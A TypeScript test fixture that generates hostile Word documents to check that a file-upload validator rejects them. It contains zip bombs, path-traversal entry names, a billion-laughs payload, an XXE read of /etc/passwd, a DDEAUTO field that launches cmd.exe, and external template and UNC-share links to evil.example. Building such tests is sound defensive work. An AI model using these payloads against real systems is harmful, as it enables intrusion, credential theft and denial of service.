import {
  docxParts,
  sampleDoc,
  sampleDocx,
  samplePdf,
  sampleZip,
  type ZipPart,
} from '../../src/platform/files/testing/samples.ts';
import { activeWord } from './hostile-active.ts';
import type { HostileFile } from './hostile-file.ts';

/** Word documents that grow, run something, fetch something, or lie about themselves. */

const docx = (...parts: readonly ZipPart[]): Buffer => sampleZip([...docxParts(), ...parts]);

/** The place of the nth record of that kind ('PK\x01\x02' in the directory, 'PK\x05\x06' at the end). */
const recordAt = (zip: Buffer, signature: string, nth = 0): number => {
  let at = zip.indexOf(Buffer.from(signature, 'latin1'));
  for (let n = 0; n < nth; n += 1) at = zip.indexOf(Buffer.from(signature, 'latin1'), at + 1);
  return at;
};
const DIRECTORY = 'PK\x01\x02';
const END = 'PK\x05\x06';

/** The document with one thing of its directory changed. */
const changed = (change: (zip: Buffer) => void, zip = sampleDocx()): Buffer => {
  change(zip);
  return zip;
};

const relation = (type: string, target: string, mode = ' TargetMode="External"'): ZipPart => ({
  name: 'word/_rels/settings.xml.rels',
  data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
});
const utf16 = ({ name, data }: ZipPart): ZipPart => ({
  name,
  data: Buffer.from(`\ufeff${data.toString()}`, 'utf16le'),
});
const body = (xml: string): Buffer =>
  sampleZip(docxParts().map((part) => (part.name === 'word/document.xml' ? { ...part, data: xml } : part)));
const laughs = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ja">${Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n} "${`&a${n || ''};`.repeat(10)}">`).join('')}]><w:document>&a19;</w:document>`;
const field = (code: string): Buffer =>
  body(
    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText xml:space="preserve">${code}</w:instrText></w:document>`,
  );
const inside = (text: string): Buffer =>
  Buffer.concat([Buffer.alloc(512, 1), Buffer.from(text, 'utf16le'), Buffer.alloc(64)]);
const megabytes = (count: number): Buffer => Buffer.alloc(count << 20);

const of =
  (code: HostileFile['code'], name = 'informe.docx') =>
  (what: string, make: () => Buffer): HostileFile => ({ what, name, code, make });
const grows = of('archivo_desmedido');
const runs = of('archivo_con_macros');
const fetches = of('archivo_contenido_externo');
const lies = of('archivo_danado');
const brings = of('archivo_con_objetos');
const runsOld = of('archivo_con_macros', 'informe.doc');

export const hostileWord: readonly HostileFile[] = [
  grows('a docx with 24 MB of zeros', () => docx({ name: 'word/media/a.bin', data: megabytes(24) })),
  grows('a docx with a bomb inside a bomb', () =>
    docx(
      { name: 'word/embeddings/a.zip', data: sampleZip([{ name: 'b', data: megabytes(12) }]) },
      { name: 'word/media/a.bin', data: megabytes(12) },
    ),
  ),
  grows('a docx of five thousand parts', () =>
    docx(...Array.from({ length: 5000 }, (_, n) => ({ name: `p${n}`, data: 'x' }))),
  ),
  grows('a docx that declares sixty thousand parts', () =>
    changed((zip) => zip.writeUInt16LE(60_000, recordAt(zip, END) + 10)),
  ),
  grows('a docx with relations of 3 MB', () =>
    docx({ name: 'word/_rels/footnotes.xml.rels', data: `<!--${' '.repeat(3 << 20)}-->` }),
  ),
  lies('a bomb that declares a small size', () =>
    docx({ name: 'word/media/a.bin', data: megabytes(24), declaredSize: 1000 }),
  ),
  lies('a docx whose parts lie in the same bytes', () =>
    changed((zip) => zip.writeUInt32LE(0, recordAt(zip, DIRECTORY, 1) + 42)),
  ),
  grows('a docx that claims the large format', () =>
    changed((zip) => zip.fill(0xff, recordAt(zip, DIRECTORY, 1) + 20, recordAt(zip, DIRECTORY, 1) + 28)),
  ),
  lies('a docx whose directory lies beyond its end', () =>
    changed((zip) => zip.writeUInt32LE(0x7fff_ffff, recordAt(zip, END) + 16)),
  ),
  lies('a docx with a path that climbs', () => docx({ name: '../../etc/cron.d/x', data: 'x' })),
  lies('a docx with a path of the machine', () => docx({ name: '/etc/passwd', data: 'x' })),
  lies('a docx with a path of Windows', () => docx({ name: 'word\\..\\..\\x', data: 'x' })),
  lies('a docx with a symbolic link', () =>
    changed((zip) => zip.writeUInt32LE(0xa1ff_0000, recordAt(zip, DIRECTORY, 2) + 38)),
  ),
  lies('a docx with a part twice', () => docx(...docxParts())),
  lies('a docx cut off', () => sampleDocx().subarray(0, 700)),
  runs('a docx with macros', () => docx({ name: 'word/vbaProject.bin', data: 'x' })),
  runs('a docm renamed', () =>
    sampleZip(docxParts([], 'application/vnd.ms-word.document.macroEnabled.main+xml')),
  ),
  runs('a docx with ActiveX', () => docx({ name: 'word/activeX/activeX1.bin', data: 'x' })),
  runs('a docx with a program', () => docx({ name: 'word/embeddings/a.exe', data: 'MZ' })),
  runs('a docx with a package', () =>
    docx({ name: 'word/embeddings/oleObject1.bin', data: inside('\u0001Ole10Native') }),
  ),
  runs('a docx with a spreadsheet of macros', () =>
    docx({ name: 'word/embeddings/oleObject2.bin', data: inside('_VBA_PROJECT') }),
  ),
  runs('a docx with a page as a chapter', () => docx({ name: 'word/afchunk.mht', data: 'x' })),
  fetches('a docx that fetches its template', () =>
    docx(relation('attachedTemplate', 'https://evil.example/t.dotm')),
  ),
  fetches('the same with the address in other signs', () =>
    docx(relation('attachedTemplate', '&#x68;ttps://evil.example/t.dotm')),
  ),
  fetches('the same with its relations in UTF-16', () =>
    docx(utf16(relation('attachedTemplate', 'https://evil.example/t.dotm'))),
  ),
  fetches('the same in other quotes', () =>
    docx({
      name: 'word/_rels/settings.xml.rels',
      data: "<Relationship Type='x/attachedTemplate' Target='https://evil.example/t' TargetMode='External'/>",
    }),
  ),
  fetches('a docx with an object elsewhere', () =>
    docx(relation('oleObject', 'mhtml:https://evil.example/x!x')),
  ),
  fetches('a docx with a picture on a share, which is told the password print', () =>
    docx(relation('image', '\\\\evil.example\\a\\b.png')),
  ),
  runs('a docx whose entities grow without end', () => body(laughs)),
  runs('a docx that reads a file of the server', () =>
    body('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>'),
  ),
  runs('a docx that calls a program in a field', () =>
    field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
  ),
  ...activeWord,
  brings('a docx with a page as a chapter, under an honest name', () =>
    docx(relation('aFChunk', 'afchunk.xml', ''), { name: 'word/afchunk.xml', data: '<p/>' }),
  ),
  runs('a docx with a spreadsheet with macros', () =>
    docx({
      name: 'word/embeddings/hoja.xlsx',
      data: sampleZip([{ name: 'xl/vbaProject.bin', data: 'x' }]),
    }),
  ),
  of('archivo_cifrado')('a docx with a password', () =>
    sampleDoc([{ name: 'EncryptedPackage', storage: false }], 'EncryptionInfo'),
  ),
  of('archivo_no_coincide')('a ZIP without a document', () => sampleZip([{ name: 'a.txt', data: 'hola' }])),
  of('archivo_no_coincide')('a spreadsheet named .docx', () =>
    sampleZip([
      {
        name: '[Content_Types].xml',
        data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      },
      { name: 'xl/workbook.xml', data: '<w/>' },
    ]),
  ),
  runsOld('a doc with macros', () =>
    sampleDoc([
      { name: 'Macros', storage: true },
      { name: 'VBA', storage: true },
    ]),
  ),
  runsOld('a doc with a package', () => sampleDoc([{ name: '\u0001Ole10Native', storage: false }])),
  of('archivo_cifrado', 'informe.doc')('a doc with a password', () =>
    changed((doc) => doc.writeUInt16LE(0x0100, doc.lastIndexOf(Buffer.from([0xec, 0xa5])) + 10), sampleDoc()),
  ),
  of('archivo_no_coincide', 'informe.doc')('a spreadsheet named .doc', () => sampleDoc([], 'Workbook')),
  of('archivo_danado', 'informe.doc')('a doc whose directory never ends', () =>
    changed((doc) => doc.writeUInt32LE(1, 512 + 4), sampleDoc()),
  ),
  of('archivo_mixto', 'informe.doc')('a doc with a PDF and a ZIP behind it', () =>
    Buffer.concat([sampleDoc(), samplePdf(), sampleZip([{ name: 'a', data: 'x' }])]),
  ),
];
